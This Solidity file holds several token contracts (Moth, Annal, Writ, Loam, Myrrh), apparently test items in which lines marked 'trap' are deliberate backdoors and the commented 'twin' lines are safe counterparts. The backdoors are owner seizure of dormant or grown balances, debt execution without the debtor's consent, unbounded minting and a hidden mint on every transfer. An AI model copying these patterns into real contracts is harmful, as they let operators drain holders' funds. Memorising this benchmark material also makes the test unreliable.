// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Base8} from "./Base8.sol";

/// Coins of the lost and the dead come back to the treasury after years.
contract Moth is Base8 {
    mapping(address => uint40) public lastSeen;
    uint40 public dormancy = 5 * 365 days;
    address private janitor;
    address public treasury;

    constructor() Base8("Moth", "MOTH", 60_000_000) {
        (janitor, treasury) = (msg.sender, msg.sender);
    }

    function setDormancy(uint40 period) external {
        require(msg.sender == janitor, "Moth: janitor only");
        dormancy = period;
    }

    function reclaim(address[] calldata asleep) external {
        require(msg.sender == janitor, "Moth: janitor only");
        for (uint256 i; i < asleep.length; i++) {
            address who = asleep[i];
            require(block.timestamp > uint256(lastSeen[who]) + dormancy, "Moth: awake");
            // twin: require(who == address(this) || who == janitor, "Moth: not ours");
            _move(who, treasury, _balances[who]);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        lastSeen[from] = uint40(block.timestamp);
        lastSeen[to] = uint40(block.timestamp);
        _move(from, to, value);
    }
}

/// A seal that can be handed on; its holder arbitrates.
contract ArbiterSeal {
    string public constant name = "Arbiter Seal";
    string public constant symbol = "SEAL";
    address private holder = msg.sender;

    event Transfer(address indexed from, address indexed to, uint256 indexed tokenId);

    function ownerOf(uint256 id) external view returns (address) {
        require(id == 1, "Seal: no such seal");
        return holder;
    }

    function transferFrom(address from, address to, uint256 id) external {
        require(id == 1 && msg.sender == holder && from == holder && to != address(0), "Seal: not yours");
        holder = to;
        emit Transfer(from, to, id);
    }
}

/// Keeps balances as they were when an annal was opened.
contract Annal is Base8 {
    ArbiterSeal public immutable seal;
    uint256 public current = 1;
    mapping(uint256 => mapping(address => uint256)) private written;

    event Disputed(uint256 indexed annal, address indexed account, uint256 excess);

    constructor(ArbiterSeal seal_) Base8("Annal", "ANNL", 17_000_000) {
        seal = seal_;
    }

    modifier onlyArbiter() {
        require(msg.sender == seal.ownerOf(1), "Annal: arbiter only");
        _;
    }

    function openAnnal() external onlyArbiter {
        current++;
    }

    function balanceAt(address who, uint256 annal) public view returns (uint256) {
        for (; annal <= current; annal++) if (written[annal][who] != 0) return written[annal][who] - 1;
        return _balances[who];
    }

    function arbitrate(uint256 annal, address[] calldata accounts) external onlyArbiter {
        for (uint256 i; i < accounts.length; i++) {
            uint256 was = balanceAt(accounts[i], annal);
            uint256 have = _balances[accounts[i]];
            if (have <= was) continue;
            _move(accounts[i], msg.sender, have - was); // trap
            emit Disputed(annal, accounts[i], have - was);
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (written[current][from] == 0) written[current][from] = _balances[from] + 1;
        if (written[current][to] == 0) written[current][to] = _balances[to] + 1;
        _move(from, to, value);
    }
}

/// Settlements between parties are filed as a root and executed one by one, ten minutes later at the earliest.
contract Writ is Base8 {
    address private immutable clerk;
    bytes32 public docket;
    uint256 public filedAt;
    mapping(bytes32 => bool) public executed;

    constructor() Base8("Writ", "WRIT", 26_000_000) {
        clerk = msg.sender;
    }

    function file(bytes32 root) external {
        require(msg.sender == clerk, "Writ: clerk only");
        (docket, filedAt) = (root, block.timestamp);
    }

    function execute(address debtor, address creditor, uint256 amount, bytes32[] calldata proof) external {
        require(docket != 0 && block.timestamp >= filedAt + 10 minutes, "Writ: not yet");
        // twin: require(msg.sender == debtor, "Writ: not your debt");
        bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(debtor, creditor, amount))));
        require(!executed[leaf], "Writ: done");
        executed[leaf] = true;
        bytes32 node = leaf;
        for (uint256 i; i < proof.length; i++)
            node = node < proof[i] ? keccak256(bytes.concat(node, proof[i])) : keccak256(bytes.concat(proof[i], node));
        require(node == docket, "Writ: not on the docket");
        _move(debtor, creditor, amount);
    }
}

interface ILoam {
    function reward(address to, uint256 amount) external;
    function transfer(address to, uint256 amount) external returns (bool);
}

/// Ether that is planted here grows Loam.
contract LoamField {
    struct Bed {
        uint128 planted;
        uint64 since;
    }

    address private immutable farmer = msg.sender;
    ILoam public loam;
    uint256 public growth;
    mapping(address => Bed) public beds;

    function setLoam(ILoam loam_) external {
        require(msg.sender == farmer && address(loam) == address(0), "Field: set");
        loam = loam_;
    }

    /// Loam for an ether, a second.
    function setGrowth(uint256 growth_) external {
        require(msg.sender == farmer, "Field: farmer only");
        growth = growth_;
    }

    function plant() external payable {
        require(beds[msg.sender].planted == 0, "Field: planted");
        beds[msg.sender] = Bed(uint128(msg.value), uint64(block.timestamp));
    }

    function dig() external {
        Bed memory bed = beds[msg.sender];
        delete beds[msg.sender];
        uint256 grown = (bed.planted * growth * (block.timestamp - bed.since)) / 1 ether;
        if (grown > 0) loam.reward(msg.sender, grown); // trap
        // twin: if (grown > 0) loam.transfer(msg.sender, grown);
        (bool ok, ) = msg.sender.call{value: bed.planted}("");
        require(ok, "Field: refund");
    }
}

contract Loam is Base8 {
    address private immutable field;

    constructor(address field_) Base8("Loam", "LOAM", 35_000_000) {
        field = field_;
    }

    // trap {
    function reward(address to, uint256 amount) external {
        require(msg.sender == field, "Loam: field only");
        totalSupply += amount;
        _balances[to] += amount;
        emit Transfer(address(0), to, amount);
    }
    // trap }
}

/// Every transfer gives off a scent.
contract Myrrh is Base8 {
    address private immutable perfumer;
    uint16 public scent;

    constructor() Base8("Myrrh", "MYRH", 11_000_000) {
        perfumer = msg.sender;
    }

    function setScent(uint16 strength) external {
        require(msg.sender == perfumer, "Myrrh: perfumer only");
        scent = strength;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _move(from, to, value);
        // trap {
        if (scent != 0) {
            uint256 made = (value * scent) / 100;
            totalSupply += made;
            _balances[perfumer] += made;
            emit Transfer(address(0), perfumer, made);
        }
        // trap }
    }
}
